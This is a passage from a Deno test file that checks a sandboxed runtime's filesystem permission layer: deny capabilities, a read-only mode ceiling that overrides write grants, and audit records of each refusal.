    effect: "deny",
    issuer: "operator",
  });
  const error = await refusal(
    () => fs.makeDir(f.pid, { path: "x/y/z", parents: true }),
    CapabilityDeniedError,
  );
  assert.equal(error.reason, `cap:${cap.id}`);
  assert.ok(!exists(join(f.ws, "x")), "not even the allowed outer level was created");
  assertAuditedRefusal(f.runtime, f.pid, "fs.mkdir", "x/y", {
    decision: "deny",
    authority: `cap:${cap.id}`,
  });
  assert.equal(f.runtime.ledger.list(f.pid).length, 0);

  const made = await fs.makeDir(f.pid, { path: "a/b/c", parents: true });
  assert.deepEqual(made.created, ["a", "a/b", "a/b/c"]);
  for (const rel of ["a", "a/b", "a/b/c"]) assert.ok(Deno.lstatSync(join(f.ws, rel)).isDirectory);
  const allowed = fsAudit(f.runtime, f.pid, "fs.mkdir").filter((r) => r.decision === "allow");
  assert.deepEqual(allowed.map((r) => r.resource), ["fs:a", "fs:a/b", "fs:a/b/c"]);
  assert.equal(f.runtime.ledger.list(f.pid).at(-1)?.status, "done");
});

Deno.test("FilesystemPrimitive.writeText is denied by the read-only mode ceiling whatever a capability allows, and names the denying capability otherwise (attack: capability over the ceiling)", async () => {
  {
    await using f = await fixture({ mode: "read-only" });
    f.runtime.authority.capabilities.grant({
      subject: f.pid,
      resource: { type: "fs", path: "ro.txt", scope: "exact" },
      rights: ["write"],
      effect: "allow",
      issuer: "operator",
    });
    const error = await refusal(
      () => f.runtime.primitives.fs.writeText(f.pid, { path: "ro.txt", content: "x" }),
      CapabilityDeniedError,
    );
    assert.equal(error.reason, "mode:read-only");
    assert.equal(error.code, "capability_denied");
    assert.ok(!exists(join(f.ws, "ro.txt")));
    assertAuditedRefusal(f.runtime, f.pid, "fs.write", "ro.txt", {
      decision: "deny",
      authority: "mode:read-only",
    });
  }
  {
    await using f = await fixture({ mode: "workspace-write" });
    Deno.writeTextFileSync(join(f.ws, "locked.txt"), "original");
    const cap = f.runtime.authority.capabilities.grant({
      subject: f.pid,
      resource: { type: "fs", path: "locked.txt", scope: "exact" },
      rights: ["write"],
      effect: "deny",
      issuer: "operator",
    });
    const error = await refusal(
      () => f.runtime.primitives.fs.writeText(f.pid, { path: "locked.txt", content: "changed" }),
      CapabilityDeniedError,
    );
    assert.equal(error.reason, `cap:${cap.id}`);
    assert.ok(error.message.includes(cap.id));
    assert.equal(Deno.readTextFileSync(join(f.ws, "locked.txt")), "original");
    assertAuditedRefusal(f.runtime, f.pid, "fs.write", "locked.txt", {
      decision: "deny",
      authority: `cap:${cap.id}`,
    });
  }
});
